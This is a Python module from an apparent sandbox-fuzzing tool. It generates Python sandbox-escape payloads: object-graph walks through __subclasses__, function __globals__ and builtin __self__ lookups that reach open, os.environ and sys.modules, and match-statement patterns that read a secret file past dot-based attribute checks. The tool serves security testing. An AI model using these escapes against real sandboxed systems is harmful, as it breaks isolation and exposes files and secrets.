"""Walks over the attributes of objects: classes, functions, builtins."""

from collections.abc import Iterator

from capfuzz.attacks.evaluators import SECRET_FILE
from capfuzz.attacks.techniques.eval_parts import (
    BUILTINS,
    CANARY,
    ENVIRON,
    FUNCTIONS,
    READ,
    VALUES,
    evaluated,
    of_builtins,
    of_globals,
    of_subclasses,
    statements,
    valued,
)

_REF = "https://cwe.mitre.org/data/definitions/913.html"
_BASES = (
    "__class__.__base__",
    "__class__.__mro__[-1]",
    "__class__.__bases__[0]",
    "__class__.mro()[-1]",
)


@evaluated(
    "eval-object-graph",
    group="object-graph",
    cwe="CWE-913",
    platforms=("python",),
    needs="lets code look at the class of a value",
    refs=(_REF,),
)
def object_graph() -> Iterator[str]:
    """Go from a value to its class, to object, to all classes that there are."""
    for value in VALUES:
        for base in _BASES if value == "()" else (*_BASES[1:2], "__class__.__base__"):
            ends = list(of_subclasses(f"{value}.{base}.__subclasses__()"))
            yield from ends if value == "()" else ends[:1]
    yield from of_subclasses("type(0).__base__.__subclasses__()")
    yield from of_subclasses("object.__subclasses__()")
    yield from of_subclasses("type.__subclasses__(object)")
    yield from (
        valued(end, "class A: pass") for end in of_subclasses("A.__base__.__subclasses__()")
    )
    yield valued(f"A.__init_subclass__.__self__.__base__.__subclasses__{CANARY}", "class A: pass")


@evaluated(
    "eval-function-globals",
    group="function-globals",
    cwe="CWE-913",
    platforms=("python",),
    needs="hands functions of the host to the code, or makes them out of it",
    refs=(_REF,),
)
def function_globals() -> Iterator[str]:
    """Ask a function for the globals of the module that it was written in."""
    for function in FUNCTIONS:
        ends = list(of_globals(f"{function}.__globals__"))
        yield from ends if function in {"(lambda: 0)", "print"} else ends[:1]
    for function in FUNCTIONS[:4]:
        for method in ("__init__", "__call__", "__func__"):
            yield f"{function}.{method}.__globals__{CANARY}"
    for hook in ("_getattr_", "_getiter_", "_write_"):
        yield f"(lambda: 0).__globals__['{hook}'].__globals__{CANARY}"
    for builtin in ("setattr", "_getattr_", "print"):
        yield f"(lambda: 0).__builtins__['{builtin}'].__globals__{CANARY}"
        yield f"(lambda: 0).__globals__['__builtins__']['{builtin}'].__globals__{CANARY}"
    made = "def f(): pass"
    for end in of_globals("f.__globals__"):
        yield valued(end, made)
    for walk in ("f.__init__", "f.__call__", "f.__class__.__init__", "f.__class__.__call__"):
        yield valued(f"{walk}.__globals__{CANARY}", made)
    yield valued(f"A().f.__func__.__globals__{CANARY}", "class A:", "    def f(self): pass")
    yield valued(f"f.__closure__[0].cell_contents.__globals__{CANARY}", made)


@evaluated(
    "eval-builtin-self",
    group="builtin-self",
    cwe="CWE-913",
    platforms=("python",),
    needs="hands builtin functions to the code as they are",
    refs=(_REF,),
)
def builtin_self() -> Iterator[str]:
    """Ask a builtin function for its module, which is that of all builtins."""
    for builtin in BUILTINS:
        ends = list(of_builtins(f"{builtin}.__self__"))
        yield from ends if builtin in {"print", "abs"} else ends[:1]
    yield f"print.__call__.__self__.__self__.open{READ}"
    yield f"print.__self__.__dict__['open']{READ}"
    yield f"sqrt.__self__.__loader__.load_module('sys').modules['os']{ENVIRON}"
    yield f"math.sqrt.__self__.__loader__.load_module('sys').modules['os']{ENVIRON}"


@evaluated(
    "eval-match-pattern",
    group="match-pattern",
    cwe="CWE-184",
    platforms=("python",),
    needs="judges attributes where they stand behind a dot, and knows no patterns",
    refs=("https://peps.python.org/pep-0634/",),
)
def match_pattern() -> Iterator[str]:
    """Name the attributes in a class pattern, where no dot stands."""
    key = CANARY[1:-1]
    for pattern in (
        f"object(__globals__={{{key}: result}})",
        f"object(__builtins__={{'_getattr_': object(__globals__={{{key}: result}})}})",
    ):
        yield statements("match (lambda: 0):", f"    case {pattern}:", "        pass")
    walk = "object(__class__=object(__base__=object(__subclasses__=classes)))"
    yield statements(
        "match ():",
        f"    case {walk}:",
        "        for c in classes():",
        "            match c:",
        "                case object(__name__='FileLoader', get_data=read):",
        f"                    result = read(0, '{SECRET_FILE}')",
    )
    yield statements(
        "match print:",
        "    case object(__self__=object(open=found)):",
        f"        result = found{READ}",
    )
